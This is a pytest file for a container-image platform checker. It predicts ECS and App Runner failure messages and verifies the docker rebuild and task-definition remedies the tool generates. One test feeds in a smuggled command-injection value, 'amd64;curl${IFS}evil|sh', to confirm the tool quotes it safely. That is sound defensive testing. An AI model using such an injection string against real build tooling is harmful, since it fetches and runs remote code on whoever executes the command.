"""The predicted failure in the words that people will see, and the commands that mend it."""

from __future__ import annotations

import pytest
from tests.situations import DIGEST, apprunner, ecs, index, platforms, push, single

from ecrguard.domain.failure import build_commands, definition_remedy, predict
from ecrguard.domain.image import Evidence, Image, ImageKind, Offer
from ecrguard.domain.judge import Requirements, judge
from ecrguard.domain.platform import Platform, parse
from ecrguard.domain.policy import Demand, Match
from ecrguard.domain.verdict import Failure, Severity, Subject, SubjectKind
from ecrguard.domain.workload import Basis, Workload

RULE = Subject(SubjectKind.POLICY_RULE, "policy rule web")
URI = "123456789012.dkr.ecr.eu-central-1.amazonaws.com/team/web:1.4"

PREDICTED = {
    "a single image of another architecture starts and dies": (
        "linux/amd64",
        single("linux/arm64"),
        ecs(),
        Failure.EXEC_FORMAT,
        "exec format error, tasks stop with exit code 1",
    ),
    "the same on App Runner": (
        "linux/amd64",
        single("linux/arm64"),
        apprunner(),
        Failure.EXEC_FORMAT,
        "the application log says exec format error; the deployment fails",
    ),
    "an index without the platform is not pulled": (
        "linux/amd64",
        index("linux/arm64"),
        ecs(),
        Failure.NO_MATCHING_DESCRIPTOR,
        "CannotPullContainerError: ... image Manifest does not contain descriptor matching platform 'linux/amd64'",
    ),
    "the same on App Runner, which says less": (
        "linux/amd64",
        index("linux/arm64"),
        apprunner(),
        Failure.NO_MATCHING_DESCRIPTOR,
        "App Runner cannot pull the image, since the index has no entry for linux/amd64",
    ),
    "Windows on Linux": (
        "linux/amd64",
        single("windows/amd64"),
        ecs(),
        Failure.WRONG_OS,
        'image operating system "windows" cannot be used on this platform',
    ),
    "another build of Windows": (
        "windows(10.0.20348)/amd64",
        single("windows(10.0.17763.5)/amd64"),
        ecs("windows(10.0.20348)/amd64"),
        Failure.WINDOWS_BUILD,
        "The container operating system does not match the host operating system (image 10.0.17763.5, host 10.0.20348)",
    ),
}


@pytest.mark.parametrize(("host", "image", "workload", "failure", "words"), PREDICTED.values(), ids=PREDICTED.keys())
def test_the_failure_is_predicted_as_it_will_be_printed(
    host: str, image: Image, workload: Workload, failure: Failure, words: str
) -> None:
    prediction = predict(parse(host), image, workload)

    assert (prediction.severity, prediction.failure) == (Severity.MISMATCH, failure)
    assert words in prediction.text


def test_a_cpu_level_that_the_host_may_lack_is_a_warning() -> None:
    prediction = predict(parse("linux/amd64"), single("linux/amd64/v3"), ecs())

    assert (prediction.severity, prediction.failure) == (Severity.WARNING, Failure.CPU_LEVEL)


def demand(texts: str, match: Match = Match.ALL, *, extra: bool = True) -> Requirements:
    return Requirements(Demand(tuple(parse(text, partial=True) for text in texts.split()), match, extra), RULE)


REBUILT = {
    "a single image for the one platform needed": (
        single("linux/arm64"),
        Requirements(workloads=(ecs(),)),
        "linux/amd64",
    ),
    "an index keeps what it has": (
        index("linux/arm64 linux/arm/v7"),
        Requirements(workloads=(ecs(),)),
        "linux/arm64,linux/arm/v7,linux/amd64",
    ),
    "a single image that another service needs keeps its platform": (
        single("linux/arm64"),
        Requirements(workloads=(ecs(), ecs("linux/arm64", name="b"))),
        "linux/arm64,linux/amd64",
    ),
    "a single image for a cluster of both": (
        single("linux/arm64"),
        Requirements(workloads=(ecs("linux/amd64 linux/arm64"),)),
        "linux/arm64,linux/amd64",
    ),
    "all that the policy names, not the missing one alone": (
        single("linux/amd64"),
        demand("linux/amd64 linux/arm64"),
        "linux/amd64,linux/arm64",
    ),
    "nothing else than the policy names": (
        index("linux/amd64 linux/s390x"),
        demand("linux/amd64 linux/arm64", extra=False),
        "linux/amd64,linux/arm64",
    ),
    "only what may stay": (index("linux/amd64 linux/s390x"), demand("linux/amd64", extra=False), "linux/amd64"),
    "what the policy leaves open stays as it is": (single("linux/amd64"), demand("arm64"), "linux/arm64"),
    "of an architecture alone, among others, nothing else": (
        index("linux/amd64 linux/arm64"),
        demand("arm64", extra=False),
        "linux/arm64",
    ),
    "an os alone": (single("windows/amd64"), demand("linux"), "linux/amd64"),
    "nothing there to go by": (index(""), demand("arm64"), "linux/arm64"),
}


@pytest.mark.parametrize(("image", "needs", "targets"), REBUILT.values(), ids=REBUILT.keys())
def test_the_image_that_the_remedy_builds_is_the_one_that_would_pass(
    image: Image, needs: Requirements, targets: str
) -> None:
    (finding,) = judge(push(), image, needs).findings
    command = f"docker buildx build --platform {targets} --tag {URI} --push ."

    assert finding.remedy[0] == command
    built = index(targets.replace(",", " "))
    assert not judge(push(), built, needs).findings


def test_what_needs_one_platform_can_also_be_pulled_from_where_it_came() -> None:
    commands = build_commands(URI, platforms("linux/amd64"), (), single("linux/arm64"))

    assert commands[1] == (
        f"docker pull --platform linux/amd64 SOURCE_IMAGE && docker tag SOURCE_IMAGE {URI} && docker push {URI}"
    )


def test_what_needs_two_platforms_cannot_be_pulled_as_one() -> None:
    assert len(build_commands(URI, platforms("linux/amd64"), platforms("linux/arm64"), single("linux/arm64"))) == 1


def test_nothing_to_build_gives_no_command() -> None:
    assert build_commands(URI, (), (), single()) == ()


def test_windows_is_built_by_its_name_without_the_version() -> None:
    (command, _) = build_commands(URI, platforms("windows(10.0.20348)/amd64"), (), single())

    assert "--platform windows/amd64 " in command


def test_what_an_image_says_of_itself_cannot_break_out_of_a_command() -> None:
    hostile = Platform("linux", "amd64;curl${IFS}evil|sh")
    image = Image(DIGEST, "", ImageKind.INDEX, (Offer(hostile, Evidence.DESCRIPTOR, DIGEST),))

    (command,) = build_commands(URI, platforms("linux/amd64"), image.platforms, image)

    assert "--platform 'linux/amd64;curl${IFS}evil|sh,linux/amd64' " in command


DEFINITIONS = {
    "the other architecture": (ecs(), single("linux/arm64"), '"cpuArchitecture": "ARM64"'),
    "the first by name where it has both": (ecs("linux/s390x"), index("linux/arm64 linux/amd64"), '"ARM64"'),
    "not for App Runner, which has none": (apprunner(), single("linux/arm64"), ""),
    "not where the cluster decides": (ecs(basis=Basis.CAPACITY), single("linux/arm64"), ""),
    "not for a service on several platforms": (ecs("linux/amd64 linux/arm64"), single("linux/arm64"), ""),
    "not for what ECS has no name": (ecs(), single("linux/s390x"), ""),
    "not for Windows": (ecs("windows(10.0.20348)/amd64"), single("linux/arm64"), ""),
}


@pytest.mark.parametrize(("workload", "image", "words"), DEFINITIONS.values(), ids=DEFINITIONS.keys())
def test_the_task_definition_may_be_changed_instead_where_ecs_has_the_platform(
    workload: Workload, image: Image, words: str
) -> None:
    remedy = definition_remedy(workload, image)

    assert bool(remedy) == bool(words)
    assert all(words in each and "web:7" in each for each in remedy)
